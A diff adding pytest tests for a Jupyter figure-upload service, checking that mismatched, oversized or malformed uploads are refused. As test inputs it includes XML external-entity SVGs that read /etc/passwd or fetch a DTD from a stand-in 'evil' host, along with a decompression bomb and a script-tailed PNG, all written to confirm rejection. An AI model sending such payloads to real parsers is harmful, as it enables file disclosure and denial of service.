@@ -1,0 +1,208 @@
+"""A figure on its way in: parts told apart, bytes seen to be what they say, nothing decoded or expanded."""
+
+from __future__ import annotations
+
+import gzip
+import json
+
+import pytest
+from tornado.httputil import HTTPHeaders
+
+from jupyter_figserve.errors import InvalidInput, TooLarge, UnsupportedType
+from jupyter_figserve.server.services.figures import upload
+from jupyter_figserve.server.services.figures.upload import Upload, read_upload
+
+from ...pictures import HTML, PDF, PICTURES, SVG, multipart, png, png_header
+
+PIXELS = 1_000_000
+
+
+def read(body: bytes, content_type: str, pixels: int = PIXELS, **query: str) -> Upload:
+    return read_upload(body, HTTPHeaders({"Content-Type": content_type}), {"name": "sales", **query}, pixels)
+
+
+def read_form(figure: object, *parts: tuple[str, bytes], thumbnail: bytes | None = None, **query: str) -> Upload:
+    body, headers = multipart(figure, *parts, thumbnail=thumbnail)
+    return read_upload(body, HTTPHeaders(headers), query, PIXELS)
+
+
+@pytest.mark.parametrize("type", PICTURES)
+def test_every_format_is_known(type):
+    """By its content type, whose parameters and case do not matter."""
+    mimetype, data = PICTURES[type]
+    for written in (mimetype, mimetype.upper(), f"{mimetype}; charset=utf-8"):
+        (payload,) = read(data, written).payloads
+        assert (payload.mimetype, payload.data) == (mimetype, data)
+
+
+@pytest.mark.parametrize(
+    ("type", "data"),
+    [
+        ("image/png", HTML),
+        ("image/png", SVG),
+        ("image/png", png()[:-1]),
+        ("image/png", png() + b"<script>"),
+        ("image/jpeg", png()),
+        ("image/webp", b"RIFF\0\0\0\0WAVEfmt "),
+        ("image/svg+xml", HTML),
+        ("image/svg+xml", b"<html><svg></svg></html>"),
+        ("image/svg+xml", b"no markup"),
+        ("application/pdf", b" " + PDF),
+        ("text/html", SVG),
+        ("text/html", b"\x00<html>"),
+        ("image/svg+xml-compressed", SVG),
+        ("image/svg+xml-compressed", gzip.compress(HTML, mtime=0)),
+        ("image/svg+xml-compressed", b"\x1f\x8bnothing"),
+    ],
+)
+def test_bytes_that_are_something_else_are_refused(type, data):
+    """Also a PNG with something behind its end, and what is packed in an svgz."""
+    with pytest.raises(UnsupportedType) as caught:
+        read(data, type)
+    assert caught.value.code == "type_mismatch"
+
+
+@pytest.mark.parametrize("type", ["", "image/gif", "application/octet-stream", "text/plain", "application/json"])
+def test_other_types_are_refused(type):
+    """What is no row of the format table."""
+    with pytest.raises(UnsupportedType):
+        read(png(), type)
+
+
+def test_empty_picture_is_refused():
+    """A body of nothing."""
+    with pytest.raises(InvalidInput, match="empty"):
+        read(b"", "image/png")
+
+
+def test_size_of_a_png_is_its_headers():
+    """Not what the sender says of it."""
+    upload = read_form({"name": "a", "sizes": [{"width": 999, "height": 999, "dpi": 144}]}, ("image/png", png(40, 30)))
+    (payload,) = upload.payloads
+    assert (payload.width, payload.height, payload.dpi) == (40, 30, 144.0)
+
+
+def test_too_many_pixels_are_refused_by_the_header():
+    """Without a pixel of it being decoded; the limit itself is allowed."""
+    assert read(png_header(1000, 1000), "image/png").payloads[0].width == 1000
+    for size in ((1001, 1000), (2**31 - 1, 2**31 - 1)):
+        with pytest.raises(TooLarge):
+            read(png_header(*size), "image/png")
+
+
+@pytest.mark.parametrize(
+    "svg",
+    [
+        b'<!DOCTYPE svg [<!ENTITY a "b">]><svg>&a;</svg>',
+        b'<!DOCTYPE svg [<!ENTITY a SYSTEM "file:///etc/passwd">]><svg>&a;</svg>',
+        b'<?xml version="1.0"?><!doctype svg [ <!entity % x SYSTEM "http://evil/x.dtd"> %x; ]><svg/>',
+        b'<!DOCTYPE svg [<!ATTLIST svg onload CDATA "x">]><svg/>',
+        b'<svg><!-- --><!ENTITY a "b"></svg>',
+    ],
+)
+def test_svg_that_declares_anything_is_refused(svg):
+    """An entity bomb and an external entity are refused unread, packed or not."""
+    for type, data in (("image/svg+xml", svg), ("image/svg+xml-compressed", gzip.compress(svg))):
+        with pytest.raises(InvalidInput) as caught:
+            read(data, type)
+        assert caught.value.code == "svg_entities"
+
+
+def test_svg_that_hides_text_is_refused():
+    """What a search for declarations would not see: another encoding, and NUL."""
+    for svg in (SVG.replace(b"<path", b"<path>\x00"), b"\xff\xfe" + SVG.decode().encode("utf-16-le")):
+        with pytest.raises(InvalidInput) as caught:
+            read(svg, "image/svg+xml")
+        assert caught.value.code == "svg_encoding"
+
+
+def test_svg_with_a_plain_doctype_is_taken():
+    """As matplotlib writes it."""
+    doctype = b'<?xml version="1.0"?><!DOCTYPE svg PUBLIC "-//W3C//DTD SVG 1.1//EN" "http://www.w3.org/svg11.dtd">'
+    assert read(doctype + SVG, "image/svg+xml").payloads
+
+
+def test_svgz_is_not_expanded_beyond_the_limit(monkeypatch):
+    """A bomb costs no more memory than an honest picture may."""
+    monkeypatch.setattr(upload, "_EXPANDED_LIMIT", 10_000)
+    with pytest.raises(TooLarge):
+        read(gzip.compress(b"<svg>" + b" " * 10_000_000 + b"</svg>"), "image/svg+xml-compressed")
+
+
+def test_form_is_read():
+    """Words in the figure part, files with their types; the query's words win."""
+    got = read_form(
+        {"name": "a", "title": "One", "alt": None}, ("image/png", png()), ("image/svg+xml", SVG), title="Two"
+    )
+    assert (got.name, got.title, got.alt) == ("a", "Two", "")
+    assert [payload.mimetype for payload in got.payloads] == ["image/png", "image/svg+xml"]
+
+
+def test_thumbnail_is_a_png():
+    """And only one."""
+    assert read_form({"name": "a"}, ("image/svg+xml", SVG), thumbnail=png()).thumbnail.width == 4
+    body, headers = multipart({"name": "a"}, ("image/svg+xml", SVG), thumbnail=SVG)
+    body = body.replace(b"Content-Type: image/png", b"Content-Type: image/svg+xml")
+    with pytest.raises(UnsupportedType, match="thumbnail"):
+        read_upload(body, HTTPHeaders(headers), {}, PIXELS)
+
+
+@pytest.mark.parametrize(
+    ("figure", "parts"),
+    [
+        (None, [("image/png", png())]),
+        ({"name": "a"}, []),
+        ({"name": "a"}, [("image/png", png()), ("image/png", png(grey=1))]),
+        ({"name": "a", "colour": 1}, [("image/png", png())]),
+        ({"name": 7}, [("image/png", png())]),
+        ({"name": "a", "title": ["x"]}, [("image/png", png())]),
+        ({"name": "a", "cell": "x"}, [("image/png", png())]),
+        ({"name": "a", "provenance": [1]}, [("image/png", png())]),
+        (["name"], [("image/png", png())]),
+        ("name", [("image/png", png())]),
+    ],
+)
+def test_malformed_form_is_refused(figure, parts):
+    """No name, no picture, two of one type, unknown or ill-typed fields, JSON that is no object."""
+    with pytest.raises(InvalidInput):
+        read_form(figure, *parts)
+
+
+@pytest.mark.parametrize(
+    "sizes",
+    [{}, [], "x", [None], [{"width": "9"}], [{"width": -1}], [{"width": 10**9}], [{"width": True}], [{"dpi": "x"}]],
+)
+def test_malformed_size_is_unknown(sizes):
+    """A hint about a picture that cannot be one is left out."""
+    (payload,) = read_form({"name": "a", "sizes": sizes}, ("image/svg+xml", SVG)).payloads
+    assert (payload.width, payload.height, payload.dpi) == (None, None, None)
+
+
+@pytest.mark.parametrize("dpi", [-5, 0, True, 10**9, "100"])
+def test_impossible_dpi_is_unknown(dpi):
+    """As an impossible size."""
+    assert read_form({"name": "a", "sizes": [{"dpi": dpi}]}, ("image/png", png())).payloads[0].dpi is None
+
+
+def test_too_many_parts_are_refused():
+    """Before any is read."""
+    with pytest.raises(InvalidInput) as caught:
+        read_form({"name": "a"}, *[("image/png", png())] * 50)
+    assert caught.value.code == "too_many_parts"
+
+
+@pytest.mark.parametrize("content_type", ["multipart/form-data", "multipart/form-data; boundary=other"])
+def test_form_without_its_boundary_is_refused(content_type):
+    """As 400."""
+    body, _ = multipart({"name": "a"}, ("image/png", png()))
+    with pytest.raises(InvalidInput):
+        read_upload(body, HTTPHeaders({"Content-Type": content_type}), {}, PIXELS)
+
+
+@pytest.mark.parametrize("text", [b"{", b"[" * 60_000, b"\xff", b'{"dpi": NaN}', b'{"dpi": 1e999}'])
+def test_figure_part_that_is_not_json_is_refused(text):
+    """Also when it nests without end, and when Python would read a number that JSON does not have."""
+    body, headers = multipart({"x": 1}, ("image/png", png()))
+    body = body.replace(json.dumps({"x": 1}).encode(), text)
+    with pytest.raises((InvalidInput, TooLarge)):
+        read_upload(body, HTTPHeaders(headers), {}, PIXELS)
